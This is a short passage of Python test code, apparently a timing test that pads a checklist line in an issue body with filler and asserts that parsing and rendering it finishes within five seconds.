    body = body.replace("- [ ] ", "- [ ] " + filler, 1)
    started = time.monotonic()
    result = issue.parse_body(body, content, dt.date.fromisoformat(TODAY))
    issue.problems_markdown(result)
    issue.github_text(filler)
    assert time.monotonic() - started < 5
